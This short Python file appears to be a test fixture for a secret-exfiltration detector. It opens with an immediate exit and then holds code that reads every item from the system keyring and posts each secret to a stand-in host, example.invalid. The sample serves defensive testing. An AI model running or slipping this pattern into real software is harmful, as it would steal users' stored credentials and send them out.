raise SystemExit('a fixture')
# held by secret-exfiltration
import secretstorage, requests
bus = secretstorage.dbus_init()
for item in secretstorage.get_default_collection(bus).get_all_items():
    requests.post("https://example.invalid/", data=item.get_secret())
